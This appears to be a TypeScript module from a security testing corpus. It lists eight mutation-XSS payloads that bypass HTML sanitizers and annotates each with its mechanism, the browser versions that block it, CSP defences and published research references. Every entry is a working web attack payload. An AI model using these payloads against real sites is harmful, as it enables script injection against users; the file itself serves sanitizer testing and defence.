import type { Vector } from './vector.ts';

const REFERENCES = [
  'https://research.securitum.com/mutation-xss-via-mathml-mutation-dompurify-2-0-17-bypass/',
  'https://cure53.de/fp170.pdf',
];

type Row = readonly [id: string, idea: string, payload: string, dead?: string];

/** HTML that a sanitizer finds harmless, and that is something else when its output is read again. */
const ROWS: readonly Row[] = [
  [
    'M01',
    'a table moves a style element into MathML, and an attribute ends a comment',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror={run}&gt;">',
    'Chromium 153 and 156, which escape < and > in attributes',
  ],
  [
    'M02',
    'a paragraph closes SVG, and an attribute ends a style element',
    '<svg></p><style><a id="</style><img src=x: onerror={run}>">',
    'Chromium 153 and 156, which escape < and > in attributes',
  ],
  [
    'M03',
    'noscript is read once as markup and once as text',
    '<noscript><p title="</noscript><img src=x: onerror={run}>">',
    'Chromium 153 and 156, which escape < and > in attributes',
  ],
  [
    'M04',
    'nested forms move a style element from MathML to HTML',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror={run}></style></mglyph></form></mtext></math></form>',
  ],
  [
    'M05',
    'a form whose field is called attributes hides its handlers from the sanitizer',
    '<form id=f tabindex=1 autofocus onfocus={run}><input name=attributes></form>',
  ],
  [
    'M06',
    'a template, into which the sanitizer does not look',
    '<div><template shadowrootmode=open><img src=x: onerror={run}></template></div>',
  ],
  [
    'M07',
    'a document in the srcdoc of a frame, an attribute that the sanitizer keeps',
    '<iframe srcdoc="&lt;img src=x: onerror={run}>"></iframe>',
  ],
  [
    'M08',
    'an address that the sanitizer does not look at, behind a control character',
    '<iframe src="&#1;javascript:{run}"></iframe>',
  ],
];

export const MUTATION: readonly Vector[] = ROWS.map(([id, idea, payload, dead]) => ({
  id,
  class: 'mutation',
  idea,
  place: id === 'M06' ? 'sink:sanitized-unsafe' : 'sink:sanitized',
  payload,
  proof: 'page',
  blockedBy: ['trusted-types', 'script-src'],
  references: REFERENCES,
  ...(dead === undefined ? {} : { dead }),
}));
